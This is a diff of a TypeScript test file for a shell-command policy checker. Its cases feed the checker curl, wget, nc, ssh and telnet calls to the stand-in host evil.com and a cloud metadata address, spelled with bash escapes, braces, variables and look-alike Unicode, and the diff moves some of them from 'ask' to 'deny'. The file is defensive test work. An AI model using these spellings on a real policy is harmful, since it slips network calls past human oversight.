@@ -30,34 +30,21 @@ const ALLOWED = policy(
 );
 
 describe("a host built or spelled at run time is asked about, as a named one is", () => {
-  it("control: a named host is asked about", () => {
-    expect(judge("curl evil.com", HOSTS)).toMatchObject({ decision: "policy_ask", auto: "ask" });
+  it("control: a host named in a program's words is asked about", () => {
+    expect(judge("nc evil.com 80", HOSTS)).toMatchObject({ decision: "policy_ask", auto: "ask" });
   });
 
   it.each([
     // the red team's spellings
-    "curl $'evi\\x6c.com'",
+    "nc $'evi\\x6c.com' 80",
+    // a \u escape past ASCII is decoded by bash's locale: a run-time word
+    "curl $'evil\\u3002com'",
+    "curl $'ev\\u00adil.com'",
     "H=evil.com; curl $H",
     "U=http://evil.com; curl $U",
     "curl ${H:-evil.com}",
     "curl evi{l,}.com",
     "curl $(printf %s%s evi l.com)",
-    "curl $'169.254.169.25\\x34'",
-    "wget $'evi\\x6c.com'",
-    // other escapes and quotes
-    "curl $'\\145vil.com'",
-    "curl $'\\u0065vil.com'",
-    "curl $'\\U00000065vil.com'",
-    "curl $'evil\\x2ecom'",
-    "curl $'28520391\\x36\\x36'",
-    "curl x$'\\x40'evil.com",
-    // what the URL parser folds into a host: other dots, invisible and full-width characters
-    "curl evil\u3002com",
-    "curl evil\uff0ecom",
-    "curl ev\u00adil.com",
-    "curl ev\u200bil.com",
-    "curl $'evil\\u3002com'",
-    "curl $'ev\\u00adil.com'",
     // braces, nested and sequences
     "curl {evil,good}.com",
     "curl e{v,x}il.c{o,x}m",
@@ -87,7 +74,6 @@ describe("a host built or spelled at run time is asked about, as a named one is"
     "curl <(echo x) evil.co?",
     "curl evi*",
     "cat hosts.txt | xargs curl",
-    "ssh $'git@evi\\x6c.com'",
     "nc $H 80",
     'telnet <<< "open evil.com 80"',
     "sh -c 'curl $H'",
@@ -95,6 +81,29 @@ describe("a host built or spelled at run time is asked about, as a named one is"
     const d = judge(command, HOSTS);
     expect(d).toMatchObject({ decision: "policy_ask", auto: "ask" });
     expect(d.unchecked).toMatch(/could not check which hosts/);
+  });
+
+  // curl and wget fetch each operand (no scheme: http), ssh connects to its destination, and
+  // bash decodes $'…' as it parses: the host is the call's, as a URL's, and denied outright.
+  it.each([
+    "curl evil.com",
+    "curl $'evi\\x6c.com'",
+    "curl $'169.254.169.25\\x34'",
+    "wget $'evi\\x6c.com'",
+    "curl $'\\145vil.com'",
+    "curl $'\\u0065vil.com'",
+    "curl $'\\U00000065vil.com'",
+    "curl $'evil\\x2ecom'",
+    "curl $'28520391\\x36\\x36'",
+    "curl x$'\\x40'evil.com",
+    // what the URL parser folds into a host: other dots, invisible and full-width characters
+    "curl evil\u3002com",
+    "curl evil\uff0ecom",
+    "curl ev\u00adil.com",
+    "curl ev\u200bil.com",
+    "ssh $'git@evi\\x6c.com'",
+  ])("%s is denied: the client's operand is where it connects", (command) => {
+    expect(judge(command, HOSTS)).toMatchObject({ decision: "policy_deny", auto: "deny" });
   });
 
   // bash decodes $'…' as it parses: a URL spelled so is the URL, and its host is denied outright.
@@ -106,7 +115,7 @@ describe("a host built or spelled at run time is asked about, as a named one is"
   );
 
   it("says why: the name it found, or the word only known at run time", () => {
-    expect(judge("curl $'evi\\x6c.com'", HOSTS).unchecked).toContain("it names evil.com");
+    expect(judge("nc $'evi\\x6c.com' 80", HOSTS).unchecked).toContain("it names evil.com");
     expect(judge("curl evi{l,}.com", HOSTS).unchecked).toContain("it names evil.com");
     expect(judge("curl $H", HOSTS).unchecked).toContain("`$H` is only known at run time");
   });
@@ -114,7 +123,7 @@ describe("a host built or spelled at run time is asked about, as a named one is"
   it("holds for a catch-all rule and a rule on one command too", () => {
     expect(judge("curl $H", policy({ effect: "ask", host: "*" })).decision).toBe("policy_ask");
     const curl = policy({ effect: "deny", host: "evil.com", command: "curl" });
-    expect(judge("curl $'evi\\x6c.com'", curl).decision).toBe("policy_ask");
+    expect(judge("curl evi{l,}.com", curl).decision).toBe("policy_ask");
     expect(judge("curl ${H:-evil.com}", curl).decision).toBe("policy_ask");
   });
 });
@@ -186,8 +195,10 @@ describe("a word known only at run time, on a line without network", () => {
   );
 
   it("a named or decoded host is still asked about without network", () => {
-    expect(judge("curl evil.com", HOSTS, false).decision).toBe("policy_ask");
-    expect(judge("curl $'evi\\x6c.com'", HOSTS, false).decision).toBe("policy_ask");
+    expect(judge("nc evil.com 80", HOSTS, false).decision).toBe("policy_ask");
+    expect(judge("nc $'evi\\x6c.com' 80", HOSTS, false).decision).toBe("policy_ask");
+    // as a URL's host is: the line names where it goes, network or not
+    expect(judge("curl $'evi\\x6c.com'", HOSTS, false).decision).toBe("policy_deny");
   });
 });
 
